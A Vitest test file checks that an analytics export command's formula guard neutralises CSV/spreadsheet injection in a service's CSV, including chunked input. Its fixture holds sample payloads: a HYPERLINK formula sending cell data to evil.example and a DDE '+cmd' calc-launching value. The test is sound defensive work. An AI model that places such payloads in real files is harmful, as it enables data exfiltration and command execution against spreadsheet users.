import { Readable } from 'node:stream';
import { text } from 'node:stream/consumers';
import { describe, expect, it } from 'vitest';
import { guardFormulas } from '../../../src/commands/analytics/export.js';

// `analytics export` re-writes the service's CSV row by row through the formula guard: a service that
// sends live formulas (the sandbox guards its own cells; the real one may not) gets them neutralised.
describe("analytics export's guard over the service's CSV", () => {
  it('marks every formula cell, keeps numbers, quotes and line ends as CSV, in chunks split anywhere', async () => {
    const served = '\ufeffscannedAt,city,visitorId\r\n2026-01-01T00:00:00Z,"=HYPERLINK(""http://evil.example/?""&A1,""x"")",-3\r\n2026-01-02T00:00:00Z,@SUM(1+1),+cmd|\' /C calc\'!A0\r\n';
    const bytes = Buffer.from(served);
    const chunks = [bytes.subarray(0, 7), bytes.subarray(7, 61), bytes.subarray(61)];
    const out = await text(await guardFormulas(Readable.from(chunks)));
    expect(out.split('\r\n')).toEqual([
      'scannedAt,city,visitorId',
      `2026-01-01T00:00:00Z,"'=HYPERLINK(""http://evil.example/?""&A1,""x"")",-3`,
      "2026-01-02T00:00:00Z,'@SUM(1+1),'+cmd|' /C calc'!A0",
      '',
    ]);
  });
});
